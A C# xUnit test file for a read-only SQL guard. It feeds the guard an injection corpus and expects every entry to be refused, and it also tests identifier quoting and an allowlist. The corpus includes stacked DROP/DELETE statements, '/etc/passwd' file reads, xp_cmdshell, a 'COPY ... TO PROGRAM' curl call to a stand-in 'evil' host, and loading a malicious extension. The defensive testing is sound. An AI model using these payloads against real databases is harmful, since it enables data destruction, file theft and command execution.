using McpAnalyzers.Runtime;

namespace McpAnalyzers.Runtime.Tests;

/// <summary>SqlGuard: identifier allowlist and quoting, and the read-only check against an injection corpus.</summary>
public sealed class SqlGuardTests
{
    public static TheoryData<string> InjectionCorpus()
    {
        var data = new TheoryData<string>();
        foreach (var payload in new[]
        {
            "SELECT * FROM users; DROP TABLE users",
            "SELECT 1; DELETE FROM users",
            "SELECT 1;DELETE FROM users --",
            "select 1 ;\n update users set admin = true",
            "DROP TABLE users",
            "delete from users",
            "INSERT INTO users VALUES (1)",
            "UPDATE users SET name = 'x'",
            "TRUNCATE users",
            "ALTER TABLE users ADD x int",
            "CREATE TABLE t (x int)",
            "GRANT ALL ON users TO public",
            "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
            "SELECT * INTO backup FROM users",
            "SELECT * FROM users FOR UPDATE",
            "SELECT pg_sleep(10)",
            "SELECT pg_catalog.pg_sleep(10)",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
            "COPY users TO PROGRAM 'curl evil'",
            "SELECT set_config('role', 'admin', false)",
            "EXEC xp_cmdshell 'dir'",
            "SELECT 1 EXEC('drop table users')",
            "SELECT * FROM OPENROWSET('SQLNCLI', 'server=evil', 'select 1')",
            "SELECT 1 WAITFOR DELAY '0:0:10'",
            "SELECT load_extension('/tmp/evil.so')",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            "PRAGMA writable_schema = 1",
            "SELECT sleep(10)",
            "SELECT benchmark(1000000, md5('x'))",
            "SELECT load_file('/etc/passwd')",
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            "SELECT 1 /* comment */ ; DROP TABLE users",
            "SELECT 'a'';DROP TABLE users;--'; DROP TABLE users",
            "SELECT $$;$$; DROP TABLE users",
            "SELECT 'unterminated",
            "SELECT \"unterminated",
            "SELECT 1 /* never closed",
            "CALL do_things()",
            "DO $$ BEGIN PERFORM 1; END $$",
            "SET ROLE admin",
            "VACUUM",
            "LOCK TABLE users",
            "   ",
            "-- only a comment",
            "EXPLAIN ANALYZE DELETE FROM users",
            "BEGIN; DELETE FROM users; COMMIT",
            "SELECT nextval('seq')",
            "SELECT 1 UNION SELECT 2; SHUTDOWN",
        })
        {
            data.Add(payload);
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(InjectionCorpus))]
    public void EnsureReadOnly_RefusesEveryPayload(string sql)
    {
        var exception = Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly(sql, SqlDialect.PostgreSql));
        Assert.False(string.IsNullOrWhiteSpace(exception.Message));
    }

    [Theory]
    [InlineData("SELECT id, name FROM users WHERE name = 'O''Brien'")]
    [InlineData("select count(*) from orders where status = 'delete; drop'")]
    [InlineData("WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT * FROM recent")]
    [InlineData("SELECT \"update\", \"delete\" FROM audit_columns")]
    [InlineData("SELECT 1;")]
    [InlineData("SELECT 1; -- trailing comment")]
    [InlineData("VALUES (1), (2)")]
    [InlineData("TABLE users")]
    [InlineData("SELECT $tag$ DROP TABLE users $tag$ AS text")]
    [InlineData("SELECT u.id FROM users u JOIN orders o ON o.user_id = u.id /* join */ ORDER BY u.id LIMIT 10")]
    public void EnsureReadOnly_AcceptsQueries(string sql)
        => Assert.Equal(sql, SqlGuard.EnsureReadOnly(sql, SqlDialect.PostgreSql));

    [Fact]
    public void EnsureReadOnly_ReportsTheReason()
    {
        Assert.Equal(SqlRefusal.MultipleStatements, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("SELECT 1; SELECT 2")).Reason);
        Assert.Equal(SqlRefusal.NotAQuery, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("DELETE FROM t")).Reason);
        Assert.Equal(SqlRefusal.WriteOrCommand, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("SELECT * INTO x FROM t")).Reason);
        Assert.Equal(SqlRefusal.ForbiddenFunction, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("SELECT pg_sleep(1)")).Reason);
        Assert.Equal(SqlRefusal.Unterminated, Assert.Throws<SqlGuardException>(() => SqlGuard.EnsureReadOnly("SELECT 'x")).Reason);
    }

    [Theory]
    [InlineData("users", SqlDialect.PostgreSql, "\"users\"")]
    [InlineData("we\"ird", SqlDialect.Ansi, "\"we\"\"ird\"")]
    [InlineData("a]b", SqlDialect.SqlServer, "[a]]b]")]
    [InlineData("a`b", SqlDialect.MySql, "`a``b`")]
    public void QuoteIdentifier_DoublesTheQuote(string name, SqlDialect dialect, string expected)
        => Assert.Equal(expected, SqlGuard.QuoteIdentifier(name, dialect));

    [Theory]
    [InlineData("name; DROP TABLE users")]
    [InlineData("name\" ; DROP TABLE users; --")]
    [InlineData("(SELECT password FROM users)")]
    [InlineData("1=1")]
    [InlineData("")]
    [InlineData("na\0me")]
    public void Identifier_RefusesWhatIsNotAllowlisted(string payload)
        => Assert.Throws<SqlGuardException>(() => SqlGuard.Identifier(payload, new[] { "name", "created_at" }, SqlDialect.PostgreSql));

    [Fact]
    public void Identifier_ReturnsTheAllowlistSpellingQuoted()
        => Assert.Equal("\"created_at\"", SqlGuard.Identifier("CREATED_AT", new[] { "name", "created_at" }, SqlDialect.PostgreSql));
}
